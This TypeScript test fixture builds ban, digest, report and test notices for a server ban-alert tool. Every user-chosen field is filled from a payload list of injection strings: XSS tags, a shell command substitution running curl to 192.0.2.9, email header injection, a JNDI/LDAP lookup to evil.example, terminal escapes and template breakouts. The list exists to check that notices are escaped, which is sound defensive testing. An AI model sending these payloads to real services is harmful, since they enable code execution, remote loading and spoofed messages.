/** For the tests of channels: notices in which every text that others may choose is an attack on whoever shows it. */
import { toLog } from '../../base/text.ts';
import type { BanNotice, DigestNotice, Notice, ReportNotice, TestNotice, ToldBan } from '../notice.ts';
import { NOON } from './scene.ts';

/** What is tried against chats, web pages, terminals, mails and shells. */
export const PAYLOADS: readonly string[] = [
  '@everyone @here @channel @room @admin <!channel> <!here|x> <@U012AB3CD> <#C123> <@&1234> <@5678>',
  '@alice:example.org #room:example.org tg://user?id=1 /start@bot #tag $(curl$' + '{IFS}http://192.0.2.9)',
  'https://evil.example/?a=1&b=2 http://192.0.2.9/x ftp://evil.example www.evil.example evil.example/x mailto:a@evil.example',
  '[click](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example|click> <a href="javascript:alert(1)">x</a>',
  '*b* _i_ ~s~ **b** __u__ ~~s~~ ||spoiler|| # head\n> quote\n- list `code` ``two`` ```block```',
  '``` @everyone https://evil.example ``` ` @everyone ` \\` \\',
  '</code></pre><b>x</b><script>alert(1)</script><img src=x onerror=alert(1)> &lt;b&gt; &amp; &#60; \'"',
  '\r\nBcc: a@evil.example\r\n\r\n.\r\nMAIL FROM:<x> \n~! touch /tmp/pwn %0d%0aX: y',
  '\x1b[31mred\x1b]0;title\x07 \u0000 \u202etxt.exe\u2066 \u2028 \u200b \ufeff \x9b31m',
  '{{ban.subject}} {{#ban}} }}{{ {{{x}}} $' + '{jndi:ldap://evil.example/a} %s %n __proto__ constructor',
  '\ud800 lone \udc00 \u{1f4a9} e\u0301\u0327 \u6f22\u5b57 evil\u3002example ',
  '"},"x":{"y":"',
];

/** Every payload, and one that is longer than any service takes. */
export const ATTACKS: readonly string[] = [...PAYLOADS, PAYLOADS.join(' '), '\u6f22"\\&<@`*_x.example '.repeat(600)];

/** Names and addresses are ours: they are read by programs that take nothing else (base/address.ts). */
export function hostileBan(text: string): ToldBan {
  const log = toLog(text);
  return {
    ...{ id: 7, subject: '203.0.113.7', host: 'web1', jail: 'ssh', service: 'ssh', kind: 'ssh.login', prior: 2 },
    ...{ from: NOON, until: NOON + 3_600_000, block: 'ineffective', why: text },
    reason: { rule: 'campaign', user: log, service: 'ssh', addresses: 20, findTime: 600_000, since: NOON - 600_000 },
    origin: {
      ...{ country: text, asn: 64_500, organization: text, organizationAsGiven: text, network: text, scanner: text },
      ...{ type: 'hosting', latitude: 52, longitude: 5, sources: [text] },
    },
    evidence: Array.from({ length: 10 }, (_, i) => ({
      ...{ time: NOON - i * 1_000, path: '/var/log/auth.log', offset: i * 100, line: log.slice(0, 500) },
    })),
    record: {
      ...{ bans: 3, first: NOON - 86_400_000, hosts: Array.from({ length: 50 }, (_, i) => `host${i}`) },
      kinds: Array.from({ length: 10 }, (_, i) => ({ name: `kind.${i}`, count: 100 - i })),
    },
  };
}

function ban(text: string, told: Partial<ToldBan> = {}): BanNotice {
  const news = ['network', 'kind', 'hosts', 'ineffective', 'campaign', 'wide'] as const;
  return { sort: 'ban', key: 'ban 7', made: NOON, host: undefined, news, ban: { ...hostileBan(text), ...told } };
}

function digest(text: string): DigestNotice {
  const ranks = (name: string) => Array.from({ length: 10 }, (_, i) => ({ name, count: 10 - i }));
  const group = {
    organization: text,
    country: text,
    bans: 5,
    addresses: 4,
    kinds: ['ssh.login'],
    members: ['203.0.113.7'],
  };
  return {
    ...{
      sort: 'digest',
      key: 'digest 1',
      made: NOON,
      host: undefined,
      every: 'day',
      from: NOON - 86_400_000,
      until: NOON,
    },
    ...{ bans: 10_000, addresses: 9_000, attempts: 123_456, before: { bans: 1, addresses: 1, attempts: 1 } },
    ...{ countries: ranks(text), organizations: ranks(text), kinds: ranks('ssh.login'), hosts: ranks('web1') },
    groups: Array.from({ length: 20 }, (_, i) =>
      i % 2 ? { ...group, by: 'campaign', name: toLog(text) } : { ...group, by: 'network', name: '203.0.113.0/24' },
    ),
    ...{ rest: 12, held: Array.from({ length: 10 }, () => hostileBan(text)), heldRest: 3 },
  };
}

function report(text: string): ReportNotice {
  const summary = Array.from({ length: 12 }, () => text);
  return {
    sort: 'report',
    key: 'report',
    made: NOON,
    host: undefined,
    month: '2026-10',
    summary,
    path: '/srv/reports/rapsheet-2026-10.html',
  };
}

function test(text: string): TestNotice {
  return { sort: 'test', key: 'test', made: NOON, host: undefined, by: text };
}

/** Notices of every sort, rule and state. */
export function hostileNotices(text: string): readonly Notice[] {
  return [
    ban(text),
    ban(text, { reason: { rule: 'manual', by: text, why: text }, until: null, block: 'refused' }),
    ban(text, { reason: { rule: 'imported', from: 'csv', text }, block: 'dry-run' }),
    digest(text),
    report(text),
    test(text),
  ];
}
